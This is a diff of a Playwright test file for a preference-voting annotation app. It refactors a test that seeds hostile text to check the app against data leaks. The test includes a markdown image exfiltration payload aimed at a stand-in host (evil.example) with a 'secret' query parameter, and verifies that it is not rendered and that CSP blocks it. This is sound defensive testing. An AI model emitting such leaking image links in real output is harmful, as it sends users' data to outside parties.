@@ -54,19 +54,8 @@ def seeded(server: Server, number: int, evil: bool = False) -> None:
     server.start()
 
 
-def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server, tab: Watched) -> None:
-    received: list[str | bytes] = []
-
-    def listen(socket: WebSocket) -> None:
-        socket.on("framereceived", lambda frame: received.append(frame))
-
-    tab.page.on("websocket", listen)
-    seeded(server, 12, evil=True)
-    page = tab.page
-    tab.open(server, "preferences")
-    sit_down(page, "Ada")
-    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
-    assert page.locator("img[src*='evil']").count() == 0
+def press_every_key(page: Page) -> None:
+    """Votes of every kind, a skip, an undo, a note and a better answer."""
     counter(page, "0 by you, 0 today · 12 ahead of you")
     press(page, "1", "ArrowRight", "ArrowDown", "0", "Shift+ArrowLeft", "s", "2")
     page.keyboard.press("2")  # the same key at once: much better, not a vote on the next pair
@@ -84,6 +73,45 @@ def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server
     press(page, "1")
     all_saved(page)
     expect(page.locator(".state")).to_contain_text("draft in step 1")
+
+
+def blocked_by(page: Page) -> str:
+    """The rule that forbids a picture from elsewhere."""
+    directive: str = page.evaluate(
+        """() => new Promise((resolve) => {
+            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
+            new Image().src = "https://evil.example/leak.png";
+            setTimeout(() => resolve("nothing was blocked"), 5000);
+        })"""
+    )
+    return directive
+
+
+def check_what_was_stored(server: Server) -> None:
+    with Workspace.open(server.workspace) as ws:
+        votes = ws.votes.live()
+        assert Counter(vote.strength for vote in votes) == {None: 5, "much": 1}
+        assert Counter(vote.both_bad for vote in votes) == {False: 5, True: 1}
+        said = votes[-1]
+        assert (said.reasons, said.comment) == (("right facts",), "2 and 1 are typed, not voted")
+        (draft,) = ws.demonstrations.list(status="draft")
+        assert (draft.response, draft.author) == ("On the third floor.", "Ada")
+
+
+def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server, tab: Watched) -> None:
+    received: list[str | bytes] = []
+
+    def listen(socket: WebSocket) -> None:
+        socket.on("framereceived", lambda frame: received.append(frame))
+
+    tab.page.on("websocket", listen)
+    seeded(server, 12, evil=True)
+    page = tab.page
+    tab.open(server, "preferences")
+    sit_down(page, "Ada")
+    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
+    assert page.locator("img[src*='evil']").count() == 0
+    press_every_key(page)
     assert received
     for model in MODELS:
         assert not any(model.encode() in (f if isinstance(f, bytes) else f.encode()) for f in received), model
@@ -94,23 +122,9 @@ def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server
     assert sorted(waits)[3] <= 200  # milliseconds from key to next pair; some may have met a busy machine
     assert tab.outside == []
     assert tab.complaints == []
-    blocked = page.evaluate(
-        """() => new Promise((resolve) => {
-            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
-            new Image().src = "https://evil.example/leak.png";
-            setTimeout(() => resolve("nothing was blocked"), 5000);
-        })"""
-    )
-    assert blocked == "img-src"
+    assert blocked_by(page) == "img-src"
     server.stop()
-    with Workspace.open(server.workspace) as ws:
-        votes = ws.votes.live()
-        assert Counter(vote.strength for vote in votes) == {None: 5, "much": 1}
-        assert Counter(vote.both_bad for vote in votes) == {False: 5, True: 1}
-        said = votes[-1]
-        assert (said.reasons, said.comment) == (("right facts",), "2 and 1 are typed, not voted")
-        (draft,) = ws.demonstrations.list(status="draft")
-        assert (draft.response, draft.author) == ("On the third floor.", "Ada")
+    check_what_was_stored(server)
 
 
 def test_two_people_a_killed_server_and_votes_it_never_answered(server: Server, tab: Watched, second: Page) -> None:
